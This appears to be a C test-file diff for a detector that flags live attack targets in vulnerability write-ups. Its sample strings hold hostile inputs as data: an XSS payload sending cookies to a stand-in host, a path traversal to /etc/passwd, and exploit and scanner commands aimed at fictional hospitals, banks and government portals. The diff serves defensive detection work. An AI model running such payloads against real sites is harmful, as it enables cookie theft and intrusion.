@@ -1688,6 +1688,154 @@ test_pwntools(void)
              0);
 }
 
+/* A homepage URL is a target by structure (review 13, B): an argument of an
+ * exploit's or a scanner's command, a line a tool printed, a list item or
+ * table row under a lead-in that names sites in use. */
+static void
+test_homepage_by_structure(void)
+{
+    static const char *const found[] = {
+        "# 利用\n\n```\npython3 exp.py https://oa.fict-keji.com\n```\n",
+        "# 利用\n\n```\n./fict-exp -t https://oa.fict-keji.com -c whoami\n```\n",
+        "# 联动\n\n```\nrad -t https://www.fict-steel.com.cn -http-proxy 127.0.0.1:7777\n```\n",
+        "# 结果\n\n```\nhttps://oa.fict-keji.com [200] [Fict-OA] [nginx]\n```\n",
+        "# 结果\n\n```\n[CVE-2026-1] [http] [critical] https://oa.fict-keji.com\n```\n",
+        "# Results\n\n| # | URL | Status |\n|---|---|---|\n| 1 | https://portal.fict-cu.org "
+        "| vulnerable |\n",
+        "During the survey we confirmed the issue on these sites:\n\n- "
+        "https://portal.fict-cu.org\n",
+        "经测试，以下站点存在该漏洞：\n\n- http://www.fict-hospital.cn\n",
+        "Affected deployments observed in the wild:\n\n| Organisation | URL |\n|---|---|\n"
+        "| Fict Credit Union | https://portal.fict-cu.org |\n",
+        "The vulnerable endpoint was https://api.fictpay-prod.io (production).\n",
+        NULL
+    };
+    static const char *const clean[] = {
+        /* the same shapes without the structure */
+        "# 安装\n\n```\npip install fict-sdk --index-url https://pypi.fict-mirror.com\n```\n",
+        "# Build\n\n```\n[INFO] Downloading from https://repo.fict-maven.com\n```\n",
+        "# Products\n\n| # | URL | Licence |\n|---|---|---|\n| 1 | https://www.fict-cu.org | MIT "
+        "|\n",
+        "We tested the issue on these versions:\n\n- https://www.fict-hospital.cn\n",
+        "Some background reading:\n\n- https://www.fict-hospital.cn\n",
+        "The project homepage is https://www.fictpay-prod.io (docs).\n",
+        "虽然产品不受影响，我们仍建议：\n\n1. "
+        "定期检查固件更新：https://www.fict-nas.com/support/download\n",
+        NULL
+    };
+    for (size_t i = 0; found[i]; i++)
+        T_EQ_INT(count_rule(found[i], "live_target", NULL) > 0, 1);
+    for (size_t i = 0; clean[i]; i++)
+        T_EQ_INT(count_rule(clean[i], "live_target", NULL), 0);
+    /* a scheme-relative URL in an injected script, not in a page's script tag */
+    T_EQ_INT(
+        count_rule("# XSS\n\n```\n<svg/onload=fetch(`//oob.fict-lab.cn/?c=`+document.cookie)>\n"
+                   "```\n",
+                   "live_target.host", NULL),
+        1);
+    T_EQ_INT(
+        count_rule("# x\n\n```html\n<script src=\"//cdn.fict-static.com/jquery.js\"></script>\n"
+                   "```\n",
+                   "live_target", NULL),
+        0);
+    /* "We notified the following organisations: X (x.org)" */
+    T_EQ_INT(count_rule("We notified the following organisations: Fict Credit Union "
+                        "(fict-cu.org).\n",
+                        "live_target.host", NULL),
+             1);
+    T_EQ_INT(count_rule("Thanks to the following organisations: Fict Credit Union "
+                        "(fict-cu.org).\n",
+                        "live_target.host", NULL),
+             0);
+}
+
+/* Pictures are no targets on their own (review 13, H); a name that is only
+ * a public suffix is no host, even inside a dork. */
+static void
+test_picture_urls(void)
+{
+    static const char *const clean[] = {
+        "# 复现\n\n![](https://img.fictblog.top/2026/poc.png)\n\n## 修复建议\n\n升级到 3.2。\n",
+        "# Reproduction\n\n![step 1](https://i.fict-imgur.com/AbCdEf1.png)\n"
+        "[step 2](https://blog-assets.fictsec.io/2026/step2.jpg)\n\n## Fix\n\nUpgrade to 3.2.\n",
+        "# 复现\n\n<img src=\"https://img.fict-cdn.cn/2026/poc.png\" width=600>\n\n## 修复建议\n\n"
+        "升级。\n",
+        "# 资产\n\n```\ndomain.suffix=\"gov.cn\" && web.title=\"Fict-OA\"\n```\n", NULL
+    };
+    for (size_t i = 0; clean[i]; i++)
+        T_EQ_INT(count_rule(clean[i], "live_target", NULL), 0);
+    /* a picture on the host the document attacks is reported with it; a
+     * target word on its line makes it a target; a real host in the dork */
+    T_EQ_INT(count_rule("# 复现\n\n![](https://oa.fict-keji.com/upload/1.png)\n\n"
+                        "漏洞地址：https://oa.fict-keji.com/upload.jsp\n",
+                        "live_target.url", NULL),
+             2);
+    T_EQ_INT(
+        count_rule("漏洞地址：https://oa.fict-keji.com/upload/1.png\n", "live_target.url", NULL),
+        1);
+    /* an image a command fetches is a request */
+    T_EQ_INT(count_rule(
+                 "Now run:\n\n`curl -H 'X-C: id' https://media.fict-dental.com/uploads/any.jpg`\n",
+                 "live_target.url", NULL),
+             1);
+    T_EQ_INT(count_rule("# 资产\n\n```\ndomain=\"oa.fict-keji.gov.cn\" && title=\"Fict-OA\"\n```\n",
+                        "live_target.host", NULL),
+             1);
+}
+
+/* Internationalised names and IPv6 literals are hosts (review 13, A). */
+static void
+test_idn_hosts(void)
+{
+    T_EQ_INT(count_rule("漏洞地址：http://政务服务.临江市.中国/admin/upload.jsp\n",
+                        "live_target.url", NULL),
+             1);
+    T_EQ_INT(count_rule("以及 https://xn--fiq228c.xn--fiqs8s/admin/upload.jsp?f=../../etc/passwd\n",
+                        "live_target.url", NULL),
+             1);
+    T_EQ_INT(count_rule("# x\n\n```\ncurl http://政务服务.临江市.中国/admin/upload.jsp\n```\n",
+                        "exploit_code", NULL) > 0,
+             1);
+    T_EQ_INT(
+        count_rule(
+            "# x\n\n```\ncurl -g \"http://[2408:8207:7853:1a0::1f]:8080/fict/api/debug\"\n```\n",
+            "exploit_code", NULL) > 0,
+        1);
+    /* bare hosts under the new TLDs, punycode and UTF-8 names on target lines */
+    static const char *const bare[] = { "案例一：vpn.fictbank.in\n",
+                                        "案例二：portal.fict-gov.go.id\n",
+                                        "案例三：mail.fict-uni.ac.th\n",
+                                        "案例四：admin.fictshop.store\n",
+                                        "案例五：api.fictpay.app\n",
+                                        "案例：xn--fiq228c.xn--fiqs8s\n",
+                                        "案例：政务.临江.中国\n",
+                                        "The portal at portal.fict-gov.go.id is down.\n",
+                                        "See sso.fict-bank.com.br today.\n",
+                                        "固件下载：support.fict-net.com。\n",
+                                        NULL };
+    for (size_t i = 0; bare[i]; i++)
+        T_EQ_INT(count_rule(bare[i], "live_target.host", NULL), 1);
+    /* the same suffixes as members, files, CSS classes and prose */
+    static const char *const not_hosts[] = {
+        "```js\nconst id = user.id;\nthis.store.commit(x);\n```\n",
+        "```css\ndiv.app { color: red }\na.link:hover {}\n```\n",
+        "```js\nconst hasICU = typeof process.versions.icu === 'string';\n```\n",
+        "Run `python3 setup.py` then `bash build.sh` and edit README.md.\n",
+        "```\nx = req.body.id\n```\n",
+        "中国人民.中国人 和 政务.中国人\n",
+        "domain.suffix=\"go.id\"\n",
+        NULL
+    };
+    for (size_t i = 0; not_hosts[i]; i++)
+        T_EQ_INT(count_rule(not_hosts[i], "live_target", NULL), 0);
+    /* an ASCII host followed by prose, a documentation IPv6 literal */
+    T_EQ_INT(count_rule("官网是 https://www.fict-corp.com，欢迎访问。\n", "live_target", NULL), 0);
+    T_EQ_INT(count_rule("参见 https://www.fict-corp.com中文说明\n", "live_target", NULL), 0);
+    T_EQ_INT(count_rule("# x\n\n```\ncurl -g \"http://[2001:db8::1]:8080/fict/api/debug\"\n```\n",
+                        "exploit_code", NULL),
+             0);
+}
+
 /* A live URL carrying a payload in prose (review 11, G). */
 static void
 test_url_payload_prose(void)
@@ -2049,6 +2197,9 @@ main(void)
     T_RUN(test_review12_labelled_secrets);
     T_RUN(test_review12_hash_rows);
     T_RUN(test_review12_published_samples);
+    T_RUN(test_homepage_by_structure);
+    T_RUN(test_picture_urls);
+    T_RUN(test_idn_hosts);
     cu_engine_free(&E);
     return T_DONE();
 }
